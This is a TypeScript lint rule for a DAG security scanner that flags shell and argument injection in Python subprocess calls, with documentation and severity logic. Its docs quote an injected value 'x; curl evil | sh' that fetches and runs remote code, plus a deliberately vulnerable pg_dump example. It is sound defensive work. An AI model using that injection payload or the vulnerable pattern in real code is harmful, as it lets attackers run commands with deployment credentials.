import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { argument, isTruthyConstant, stringValue, unwrap, type CallArgs } from '../../src/engine/python';
import type { RuleContext } from '../../src/engine/context';
import { sinkCalls } from '../../src/engine/partials';
import { atLeast } from '../../src/airflow/trust';
import { shellScriptInArgv } from '../../src/airflow/shell';
import { resolveName } from '../../src/airflow/provenance';
import { commandProvenance, originWords, severityFor, snippet } from './_util';

/** Take a `shell=` flag; the command is the first argument (`args=`). */
const SHELL_FLAG = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
/** Always run `/bin/sh -c cmd`. */
const ALWAYS_SHELL = new Set(['subprocess.getoutput', 'subprocess.getstatusoutput']);

export default defineRule({
  meta: {
    id: 'DG201',
    name: 'subprocess-shell-with-input',
    category: 'shell-injection',
    severity: 'high',
    parseTime: 'note',
    message: '`{fn}` runs a shell command built from {origin} (`{value}`)',
    messages: {
      argv: '`{fn}` runs `{program}` with arguments from {origin} (`{value}`) {how}: the value can add options and arguments of its own',
    },
    aliases: ['B602', 'B604', 'S602', 'S604', 'B605', 'S605'],
    docs: {
      what:
        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=` (also given as `**{"shell": True}`, through a `**kw` dict bound before the call, or bound by `functools.partial(subprocess.run, shell=True)` and called at once or through a name), `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]` (or an interpreter\'s inline code: `["python", "-c", code]`, `perl -e`, `node -e`, `php -r`), when the shell script is not constant. Names are followed to their assignment, loop or parameter (a dict or list carries what is stored in it — `d[k] = v`, `.update`, `.setdefault`, `.append`; `self.x` what the class stores there, with `__init__` arguments judged where the class is called): constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)`, numbers and values checked against an allow list or a strict pattern first (`if t not in TABLES: raise`, `if not re.fullmatch(…, t): raise`, `assert t in TABLES`) are fine; Variables, environment values and other tasks\' output (XComs) are *medium*; parameters of TaskFlow tasks and `python_callable`s are judged at their call sites in the file (constants there are fine; with no call site, or one that does not show the value, *medium*); `dag_run.conf`, `params` and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection). Without a shell, argument injection: a command string formatted from trigger input and split into words (`subprocess.run(shlex.split(f"bq query \'{sql}\'"))`, `cmd.split()`; *medium*, *low* for fetched data and other tasks\' output), and a trigger value given as a whole word to a program whose options run commands (`["ssh", host, "uptime"]` with `host = "-oProxyCommand=…"`; ssh/scp/rsync/git/tar/find/curl/wget/xargs/interpreters…: *medium*) — not after a `--` word.',
      why:
        'The shell interprets `;`, `|`, `$(…)`, backquotes and newlines in the spliced value: a table name like `x; curl evil | sh` runs an attacker\'s command on the worker (or, at parse time, in the dag-processor) with the deployment\'s credentials. Values in DAGs come from `dag_run.conf`, params and XComs, which anyone allowed to trigger a DAG or to write upstream data controls.',
      example:
        '```python\n@task\ndef export(table: str):\n    subprocess.run(f"pg_dump -t {table} > /tmp/{table}.sql", shell=True, check=True)\n```',
      useInstead:
        '```python\n@task\ndef export(table: str):\n    with open(f"/tmp/{table}.sql", "wb") as out:\n        subprocess.run(["pg_dump", "-t", table], stdout=out, check=True)  # no shell\n    # if a shell is unavoidable: f"pg_dump -t {shlex.quote(table)}"\n```',
    },
  },
  // functools.partial(subprocess.run, shell=True): a shell runner, judged where it is called
  calls: [...SHELL_FLAG, ...ALWAYS_SHELL, 'functools.partial'],
  onCall(call, fn, ctx) {
    for (const c of sinkCalls(call, fn, ctx, (t) => SHELL_FLAG.has(t) || ALWAYS_SHELL.has(t))) check(c.use, c.fn, c.args, c.bound, ctx);
  },
});

/** The rule on one call of `fn` with these arguments (`splatsIn`: the call whose `**d` splats may set `shell`). */
function check(call: SyntaxNode, fn: string, args: CallArgs, splatsIn: SyntaxNode, ctx: RuleContext): void {
  let script: SyntaxNode | undefined;
  if (ALWAYS_SHELL.has(fn)) script = argument(args, 'cmd', 0);
  else if (SHELL_FLAG.has(fn)) {
    const cmd = argument(args, 'args', 0);
    if (!cmd) return;
    const u = unwrap(cmd);
    const isList = (n: SyntaxNode) => n.type === 'list' || n.type === 'tuple';
    let list = isList(u) ? u.namedChildren.filter((x) => x.type !== 'comment') : null;
    // `argv = ["sh", "-c", …]; subprocess.Popen(argv)`: an argv bound before the call (and grown by `.append`/`+=`)
    if (u.type === 'identifier') {
      const v = resolveName(u).map(unwrap);
      if (v.length && isList(v[0])) list = v.flatMap((d) => (isList(d) ? d.namedChildren.filter((x) => x.type !== 'comment') : [d]));
    }
    // `**kw` with `kw = {"shell": True}` bound before the call (a `**{...}` literal is read by callArgs already)
    const shell = args.keywords.get('shell') ?? splatKeyword(call, 'shell') ?? (splatsIn !== call ? splatKeyword(splatsIn, 'shell') : undefined);
    if (shell && isTruthyConstant(shell)) script = list ? list[0] : cmd;
    else if (list) script = shellScriptInArgv(list) ?? undefined;
    if (!script) {
      argumentInjection(call, fn, u, list, ctx);
      return;
    }
  } else return;
  if (!script) return;
  const p = commandProvenance(script, ctx);
  if (!atLeast(p.trust, 'config')) return;
  ctx.report(call, { fn, origin: originWords(p.trust), value: snippet(p.node) }, { severity: severityFor(p.trust) });
}

/** The value of `name` in a `**d` splat of the call, `d` being a name bound only to dict literals that set it. */
function splatKeyword(call: SyntaxNode, name: string): SyntaxNode | undefined {
  for (const a of call.childForFieldName('arguments')?.namedChildren ?? []) {
    const id = a.type === 'dictionary_splat' ? a.namedChildren[0] && unwrap(a.namedChildren[0]) : null;
    if (id?.type !== 'identifier') continue;
    for (const d of resolveName(id).map(unwrap)) {
      if (d.type !== 'dictionary') continue;
      const pair = d.namedChildren.find((p) => p.type === 'pair' && stringValue(p.childForFieldName('key')) === name);
      const v = pair?.childForFieldName('value');
      if (v) return v;
    }
  }
  return undefined;
}

/** Programs with options that run a command or write where they are told (`ssh -oProxyCommand=…`, `tar --to-command`, `git -c core.sshCommand=…`). */
const OPTION_RUNS = /^(?:.*\/)?(?:ssh|scp|sftp|rsync|git|tar|find|zip|curl|wget|sendmail|mail|xargs|env|awk|sed|perl|python\d*(?:\.\d+)?|node|ruby|php|docker|kubectl|helm)$/;

/**
 * No shell, but an argv whose words come from input: a command string formatted from it and split into words
 * (`shlex.split(f"bq query '{sql}'")`, `cmd.split()`), or a trigger value given as a word to a program with options
 * that run commands (`["ssh", host, "uptime"]`: `host = "-oProxyCommand=…"`). *Medium* for trigger input, *low* for
 * fetched data and other tasks' output; never for values after a `--` end-of-options word.
 */
function argumentInjection(call: SyntaxNode, fn: string, cmd: SyntaxNode, list: SyntaxNode[] | null, ctx: RuleContext): void {
  const severity = (t: string): 'medium' | 'low' | null => (t === 'user' ? 'medium' : t === 'external' || t === 'xcom' ? 'low' : null);
  // `argv = shlex.split(…)` bound before the call
  if (cmd.type === 'identifier') {
    const bound = resolveName(cmd).map(unwrap);
    if (bound.length === 1 && bound[0].type === 'call') cmd = bound[0];
  }
  const f = cmd.type === 'call' ? cmd.childForFieldName('function') : null;
  const splitOf = f?.text === 'shlex.split' || ctx.callee(cmd) === 'shlex.split' ? cmd.childForFieldName('arguments')?.namedChildren[0] : f?.type === 'attribute' && f.childForFieldName('attribute')?.text === 'split' ? f.childForFieldName('object') : null;
  if (splitOf) {
    const p = commandProvenance(splitOf, ctx);
    const sev = severity(p.trust);
    const program = /^[\s"'(]*(?:f|rb|br|r|b|u)?["']\s*([\w./-]+)/i.exec(splitOf.text)?.[1] ?? 'a program';
    if (sev) ctx.report(call, { fn, program, origin: originWords(p.trust), value: snippet(p.node), how: 'split into words' }, { message: 'argv', severity: sev });
    return;
  }
  if (!list || list.length < 2) return;
  const program = stringValue(list[0]);
  if (!program || !OPTION_RUNS.test(program)) return;
  for (const word of list.slice(1)) {
    if (stringValue(word) === '--') return;
    if (stringValue(word) !== null) continue;
    // only a word that starts with the value can be an option: `f"sync@{host}:/data/"` cannot
    const w = unwrap(word);
    const lead = w.type === 'string' ? w.namedChildren.find((c) => c.type === 'string_content' || c.type === 'interpolation') : null;
    if (w.type === 'string' && lead?.type !== 'interpolation') continue;
    const p = commandProvenance(lead?.childForFieldName('expression') ?? lead?.namedChildren[0] ?? word, ctx);
    if (p.trust !== 'user') continue;
    ctx.report(call, { fn, program, origin: originWords(p.trust), value: snippet(p.node), how: 'as whole words' }, { message: 'argv', severity: 'medium' });
    return;
  }
}
